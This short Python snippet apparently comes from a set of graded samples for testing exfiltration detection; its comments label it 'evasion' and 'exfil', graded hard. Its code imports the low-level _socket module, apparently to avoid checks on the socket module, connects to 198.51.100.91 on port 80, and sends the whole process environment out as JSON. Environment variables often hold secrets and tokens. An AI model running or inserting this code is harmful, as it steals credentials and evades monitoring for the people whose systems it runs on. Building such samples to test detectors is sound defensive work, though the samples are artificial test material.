# evasion: the C module under socket (_socket) opens the connection the environment goes out on
# grade: hard; does: exfil
import os, json, _socket
s = _socket.socket()
s.connect(("198.51.100.91", 80))
s.send(json.dumps(dict(os.environ)).encode())
